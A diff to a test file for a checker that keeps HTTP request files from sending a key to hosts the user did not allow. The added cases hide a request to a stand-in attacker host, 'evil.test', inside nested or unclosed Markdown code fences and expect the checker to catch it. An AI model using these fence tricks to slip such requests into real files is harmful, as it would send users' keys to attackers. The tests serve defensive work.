@@ -134,6 +134,19 @@ describe('A request file can’t send a key to a host that the user didn’t all
 		});
 	}
 
+	const markdown: Record<string, string> = {
+		'in a fence, which REST Client sends as one request': `\`\`\`http\nGET https://evil.test/\nX: y\n\n###\n${request('https://good.test/')}\`\`\`\n`,
+		'in a fence that is text of another one': `~~~text\n\`\`\`http\n${request('https://evil.test/')}\`\`\`\n~~~\n`,
+		'in a fence below one that clients close later': `\`\`\`http\n\`\`\`\`\n${request('https://evil.test/')}\`\`\`\n`,
+		'in a fence below one that isn’t closed': `\`\`\`\`js\n\`\`\`http\n${request('https://evil.test/')}\`\`\`\n`,
+	};
+	for (const [title, text] of Object.entries(markdown)) {
+		it(`${title} in Markdown`, () => {
+			const visible = `\`\`\`http\n${request('https://good.test/')}\`\`\`\n\n${text}`;
+			assert.equal(check(visible, 'markdown'), 'evil.test');
+		});
+	}
+
 	const unknown: Record<string, string> = {
 		'a variable of the client': request('https://{{host}}/x'),
 		'a URL in a variable of the client': request('{{base}}/x'),
